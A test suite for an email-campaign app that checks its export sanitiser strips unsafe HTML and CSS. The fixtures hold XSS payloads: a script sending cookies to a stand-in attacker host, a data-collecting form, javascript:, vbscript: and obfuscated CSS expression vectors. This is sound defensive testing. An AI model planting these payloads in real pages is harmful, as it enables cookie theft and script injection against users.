import * as cheerio from 'cheerio';
import { simpleParser } from 'mailparser';
import { CHECKLIST_ITEMS, newInstanceId } from '@mailplan/shared';
import { createModule, organizationWithStarterModules } from './support/modules.js';
import { startTestApp, type TestApp } from './support/test-app.js';

/** The exported email through the email allowlist, on real Postgres: what goes, what stays, what the checklist says. */
let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(() => t?.close());

type Module = { id: number; name: string };
type ChecklistItem = { id: string; status: string; label: string; reason: string };

const organization = () => organizationWithStarterModules<Module>(t.server);

/**
 * A new organization's campaign of one body module made from `html` (its `headline` field filled
 * in) above the starter footer: the module, the campaign as sent (the draft routes take it) and
 * the saved campaign.
 */
async function campaignOfModule(module: { name: string; description: string; html: string }, campaign: { name: string; subject: string; headline: string }) {
  const { c, byKey } = await organization();
  const created = await createModule<Module>(c, {
    name: module.name,
    description: module.description,
    category: 'body',
    fields: [{ name: 'headline', type: 'text', required: true, purpose: 'The offer' }],
    html_content: module.html,
  });
  const instance = { instanceId: newInstanceId(created.id), moduleId: created.id };
  const footer = { instanceId: newInstanceId(byKey.footer!.id), moduleId: byKey.footer!.id };
  const body = {
    name: campaign.name,
    subject: campaign.subject,
    previewText: 'Half price on every tea set until Sunday, while stocks last.',
    moduleInstances: [instance, footer],
    content: {
      [instance.instanceId]: { headline: campaign.headline },
      [footer.instanceId]: { company_name: 'Aurora Tea Ltd', address: '1 Leaf Lane, Portland', unsubscribe_url: 'https://aurora.example.com/unsubscribe' },
    },
  };
  const saved = (await c.post('/api/campaigns', body).expect(201)).body as { id: number };
  return { c, module: created, body, saved };
}

const UNSAFE_MODULE = [
  '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0">',
  '<tr><td align="center" bgcolor="#fdf6e3" style="padding:24px;">',
  '<h2 style="margin:0;" onclick="track(this)">{{headline}}</h2>',
  '<script>fetch("https://evil.example.com/?c=" + document.cookie)</script>',
  '<img src="https://img.example.com/sale.png" width="560" alt="Summer sale" onerror="alert(1)">',
  '<p>Hi *|FNAME|*, <a href="https://shop.example.com/sale" target="_blank">shop the sale</a>, <a href="mailto:help@example.com">write to us</a> or <a href="tel:+15555550100">call</a>.</p>',
  '<a href="javascript:alert(document.domain)">Claim your gift</a>',
  '<form action="https://evil.example.com/collect" method="post"><input type="email" name="email"><button type="submit">Join</button></form>',
  '<iframe src="https://evil.example.com/frame" width="300" height="200"></iframe>',
  '<p><a href="*|UNSUB|*">Unsubscribe</a></p>',
  '</td></tr></table>',
].join('\n');

describe('export: the email allowlist', () => {
  it('removes scripts, event handlers, forms, frames and javascript: links from the exported email, keeps the rest and names what it removed', async () => {
    const { c, module, body, saved } = await campaignOfModule(
      { name: 'Summer sale', description: 'A banner with everything a pasted template can bring', html: UNSAFE_MODULE },
      { name: 'Summer sale', subject: 'Our summer sale starts today', headline: 'Half price, this week only' },
    );
    const res = await c.get(`/api/campaigns/${saved.id}/export`).expect(200);
    const { html, text, checklist } = res.body as { html: string; text: string; checklist: ChecklistItem[] };

    // none of the unsafe constructs is left, in any spelling
    expect(html).not.toMatch(/<script|<form|<input|<button|<iframe|\son[a-z]+\s*=|javascript:|evil\.example\.com/i);
    // the safe content stays: the filled heading, the image, the links and their addresses, the merge tag, the layout
    const $ = cheerio.load(html);
    expect($('h2').text()).toBe('Half price, this week only');
    expect($('img[src="https://img.example.com/sale.png"]').attr('alt')).toBe('Summer sale');
    expect($('a[href="https://shop.example.com/sale"]').text()).toBe('shop the sale');
    expect($('a[href="mailto:help@example.com"]').text()).toBe('write to us');
    expect($('a[href="tel:+15555550100"]').text()).toBe('call');
    expect($('a[href="*|UNSUB|*"]').text()).toBe('Unsubscribe');
    expect($('a:not([href])').text()).toBe('Claim your gift');
    expect($('td[bgcolor="#fdf6e3"][align="center"]')).toHaveLength(1);
    expect(html).toContain('Hi *|FNAME|*,');
    expect(html).toContain('Aurora Tea Ltd</div>');
    expect(text).toContain('Half price, this week only');
    expect(text).toContain('shop the sale [https://shop.example.com/sale]');

    const items = Object.fromEntries(checklist.map((i) => [i.id, i]));
    expect(items.safeHtml).toEqual({
      id: 'safeHtml',
      status: 'warn',
      label: CHECKLIST_ITEMS.safeHtml,
      reason:
        'Removed 1 script, 2 event handlers (onclick, onerror), 1 javascript: link, 1 form, 2 form fields (input, button) and 1 embedded frame (iframe) from Summer sale: email clients block them and some email services refuse emails that contain them.',
    });
    // the other checks read the cleaned email
    expect(items.unsubscribe!.status).toBe('pass');
    expect(items.imageAlt!.status).toBe('pass');

    // the form's export of the same campaign answers the same; the module itself is unchanged
    expect((await c.post('/api/campaigns/export', body).expect(200)).body).toEqual(res.body);
    expect((await c.get(`/api/modules/${module.id}`).expect(200)).body.html_content).toBe(UNSAFE_MODULE);
  });

  it('a javascript: address written into a link field is removed too; with nothing removed the item passes', async () => {
    const { c, byKey } = await organization();
    const cta = { instanceId: newInstanceId(byKey.cta!.id), moduleId: byKey.cta!.id };
    const content = (url: string) => ({ [cta.instanceId]: { lead_in: 'Ready?', cta_text: 'Start now', cta_url: url } });
    const unsafe = (await c.post('/api/campaigns/export', { moduleInstances: [cta], content: content(' JavaScript:alert(1)') }).expect(200)).body;
    expect(unsafe.html).not.toMatch(/javascript/i);
    expect(cheerio.load(unsafe.html)('a').text()).toBe('Start now');
    expect((unsafe.checklist as ChecklistItem[]).find((i) => i.id === 'safeHtml')).toMatchObject({
      status: 'warn',
      reason: 'Removed 1 javascript: link from Call-to-action button: email clients block them and some email services refuse emails that contain them.',
    });

    const safe = (await c.post('/api/campaigns/export', { moduleInstances: [cta], content: content('https://aurora.example.com/start') }).expect(200)).body;
    expect(cheerio.load(safe.html)('a[href="https://aurora.example.com/start"]').text()).toBe('Start now');
    expect((safe.checklist as ChecklistItem[]).find((i) => i.id === 'safeHtml')).toEqual({
      id: 'safeHtml',
      status: 'pass',
      label: CHECKLIST_ITEMS.safeHtml,
      reason: 'Nothing had to be removed: no scripts, event handlers, forms, frames, javascript: links or unsafe styles.',
    });
  });

  it('removes CSS that loads or runs code from the export, the .eml and the previews, however it is written, and counts it', async () => {
    const styled = [
      '<style type="text/css">',
      '.banner { color: #222222; width: e\\xpression(alert(1)); }',
      '@import url("JavaScript:alert(2)");',
      '.banner a { -moz-binding: url(https://evil.example.com/xss.xml#x); font-weight: bold; }',
      '@media only screen and (max-width: 620px) { .banner { font-size: 18px !important; behavior: url(xss.htc); } }',
      '</style>',
      '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0">',
      '<tr><td class="banner" style="padding:24px; background-image: url(&#106;ava\tscript:alert(3)); width: \\65xpression(alert(4))">',
      '<p style="margin:0; background: url(data:text/html;base64,PHNjcmlwdD4=); BEHAVIOR: url(xss.htc)">{{headline}}</p>',
      '<p style="margin:0; list-style-image: url(vbscript:msgbox(1)); width: exp/**/ression(alert(5))"><a href="javascript:alert(6)">Claim</a> <a href="https://shop.example.com/sale">Shop</a></p>',
      '</td></tr></table>',
    ].join('\n');
    const { c, body, saved } = await campaignOfModule(
      { name: 'Styled banner', description: 'A banner with every CSS trick', html: styled },
      { name: 'Styled', subject: 'A styled banner', headline: 'Half price' },
    );

    /** Anything of the vectors, in any spelling the module used. */
    const ACTIVE = /expression|xpression|exp\/\*|\\65|behavior|binding|javascript|java\s*script|&#106;|vbscript|data:text/i;
    const exported = (await c.get(`/api/campaigns/${saved.id}/export`).expect(200)).body as { html: string; checklist: ChecklistItem[] };
    const eml = (await c.get(`/api/campaigns/${saved.id}/export/eml`).expect(200)).body.eml as string;
    const answers = {
      export: exported,
      draftExport: (await c.post('/api/campaigns/export', body).expect(200)).body,
      preview: (await c.get(`/api/campaigns/${saved.id}/preview`).expect(200)).body,
      draftPreview: (await c.post('/api/campaigns/preview', body).expect(200)).body,
    } as Record<string, { html: string; checklist: ChecklistItem[] }>;
    const reason =
      'Removed 1 javascript: link and 10 unsafe style rules (javascript: address, CSS expression, data: address, behavior, vbscript: address, -moz-binding) from Styled banner: email clients block them and some email services refuse emails that contain them.';
    for (const [route, answer] of Object.entries(answers)) {
      expect([route, ACTIVE.test(answer.html)]).toEqual([route, false]);
      expect([route, answer.checklist.find((i) => i.id === 'safeHtml')]).toEqual([route, { id: 'safeHtml', status: 'warn', label: CHECKLIST_ITEMS.safeHtml, reason }]);
    }
    const parsed = await simpleParser(eml);
    expect(parsed.html).toBe(exported.html);
    expect(ACTIVE.test(parsed.html as string)).toBe(false);

    // the safe CSS stays: inlined from the stylesheet, the media query, the inline styles around what went
    const $ = cheerio.load(exported.html);
    const cell = $('td.banner');
    expect(cell.attr('style')).toMatch(/color: #222222/);
    expect(cell.attr('style')).toMatch(/padding:\s*24px/);
    expect($('td.banner a[href="https://shop.example.com/sale"]').attr('style')).toMatch(/font-weight: bold/);
    expect(exported.html).toMatch(/@media only screen and \(max-width: 620px\) \{\s*\.banner \{\s*font-size: 18px !important;\s*\}\s*\}/);
    expect($('p').first().attr('style')).toMatch(/^margin:\s*0;?$/);
    expect($('p').first().text()).toBe('Half price');
  });
});
